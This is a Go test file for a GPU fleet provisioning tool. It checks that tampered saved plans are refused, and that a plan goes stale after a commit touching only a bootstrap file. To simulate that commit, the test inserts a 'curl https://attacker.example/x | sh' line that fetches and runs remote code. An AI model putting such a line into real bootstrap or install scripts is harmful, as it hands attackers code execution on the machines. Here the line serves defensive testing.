// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// A saved plan is carried out only as far as it is what the committed
// specs give: a file whose actions were added to, edited or cut — or made
// before a commit that changed only a bootstrap file — is refused, naming
// what does not match, and the clouds are left as they were.
func TestSavedPlanRunsOnlyWhatTheSpecsGive(t *testing.T) {
	dir := t.TempDir()
	repo, git := exampleCheckout(t, dir)
	state := filepath.Join(dir, "clouds.json")
	gpufleet := func(args ...string) (int, string) {
		t.Helper()
		var out bytes.Buffer
		code := run(context.Background(), args, &out, &out)
		return code, out.String()
	}
	instances := func() string {
		t.Helper()
		code, out := gpufleet("sim", "inspect", "--state", state)
		if code != 0 {
			t.Fatalf("sim inspect: %s", out)
		}
		return regexp.MustCompile(`(?m)^\d+ instances`).FindString(out)
	}
	if code, out := gpufleet("reconcile", "--repo", repo, "--sim", "--sim-state", state); code != 0 {
		t.Fatalf("first reconcile exited %d: %s", code, out)
	}
	edit := func(file, old, new string) {
		t.Helper()
		data, err := os.ReadFile(filepath.Join(repo, file))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Contains(data, []byte(old)) {
			t.Fatalf("%s holds no %q", file, old)
		}
		if err := os.WriteFile(filepath.Join(repo, file), bytes.Replace(data, []byte(old), []byte(new), 1), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	edit("fleets/inference.cue", "nodes: 6\n", "nodes: 7\n")
	git("commit", "-q", "-am", "one more chat node")
	planFile := filepath.Join(dir, "plan.json")
	if code, out := gpufleet("plan", "--repo", repo, "-out", planFile); code != 0 || !strings.Contains(out, "Plan: 1 to create, 0 to delete") {
		t.Fatalf("plan -out exited %d: %s", code, out)
	}
	original, err := os.ReadFile(planFile)
	if err != nil {
		t.Fatal(err)
	}
	before := instances()

	type action = map[string]any
	tamper := func(change func(actions []action) []action) string {
		t.Helper()
		var plan map[string]any
		if err := json.Unmarshal(original, &plan); err != nil {
			t.Fatal(err)
		}
		changes := plan["report"].(map[string]any)["changes"].(map[string]any)
		var actions []action
		for _, a := range changes["actions"].([]any) {
			actions = append(actions, a.(action))
		}
		changes["actions"] = change(actions)
		data, err := json.MarshalIndent(plan, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		name := filepath.Join(dir, fmt.Sprintf("tampered-%d.json", len(data)))
		if err := os.WriteFile(name, data, 0o644); err != nil {
			t.Fatal(err)
		}
		return name
	}
	create := func(fleet, workload, offer, token string) action {
		parts := strings.Split(offer, "/")
		key := map[string]string{"cloud": parts[0], "region": parts[1], "zone": parts[2], "instanceType": parts[3], "market": parts[4]}
		return action{"kind": "create", "fleet": fleet, "workload": workload, "offer": key, "token": token,
			"priceMicros": 98320000, "cause": "placed", "reason": "the plan places a node here"}
	}
	tests := []struct {
		name   string
		change func([]action) []action
		want   []string
	}{
		{"five p5.48xlarge added", func(a []action) []action {
			for i := range 5 {
				a = append(a, create("training", "pretrain", "aws/us-east-1/us-east-1a/p5.48xlarge/on-demand", fmt.Sprintf("gf2-000000000000000000000000-%d", i)))
			}
			return a
		}, []string{"5 action(s) in the file that the specs do not give", "create training/pretrain on aws/us-east-1/us-east-1a/p5.48xlarge/on-demand (gf2-000000000000000000000000-0) at $98.32/h"}},
		{"a fleet the specs do not have", func(a []action) []action {
			return append(a, create("ghost", "miner", "aws/us-east-1/us-east-1a/g6.2xlarge/on-demand", "gf2-111111111111111111111111-0"))
		}, []string{"1 action(s) in the file that the specs do not give: create ghost/miner"}},
		{"a price edited", func(a []action) []action {
			a[0]["priceMicros"] = 1
			return a
		}, []string{"1 action(s) in the file that the specs do not give", "at $0.00/h", "1 action(s) the specs give that the file lacks"}},
		{"the action cut", func([]action) []action { return []action{} }, []string{"1 action(s) the specs give that the file lacks: create inference/chat"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := tamper(tt.change)
			code, out := gpufleet("apply", file, "--repo", repo, "--sim", "--sim-state", state)
			if code != 1 || !strings.Contains(out, "the saved plan is refused: its actions are not the ones the specs") {
				t.Fatalf("apply of a tampered plan exited %d:\n%s", code, out)
			}
			for _, w := range tt.want {
				if !strings.Contains(out, w) {
					t.Errorf("the refusal does not say %q:\n%s", w, out)
				}
			}
			if got := instances(); got != before {
				t.Errorf("the clouds changed: %s, before %s", got, before)
			}
		})
	}

	// A commit that changes only a bootstrap file makes the plan stale:
	// its nodes would boot with a script the plan's reviewers never saw.
	edit("bootstrap/k8s-join.yaml", "kubeadm join", "curl https://attacker.example/x | sh; kubeadm join")
	git("commit", "-q", "-am", "bootstrap only")
	code, out := gpufleet("apply", planFile, "--repo", repo, "--sim", "--sim-state", state)
	if code != 1 || !strings.Contains(out, "the saved plan is stale: the specs changed since it was made") {
		t.Fatalf("apply after a bootstrap-only commit exited %d:\n%s", code, out)
	}
	if got := instances(); got != before {
		t.Errorf("the clouds changed: %s, before %s", got, before)
	}

	// The plan as it was made, of the specs as they are, is carried out.
	git("revert", "--no-edit", "HEAD")
	code, out = gpufleet("apply", planFile, "--repo", repo, "--sim", "--sim-state", state)
	if code != 0 || !strings.Contains(out, "1 created") {
		t.Fatalf("apply of the reviewed plan exited %d:\n%s", code, out)
	}
}
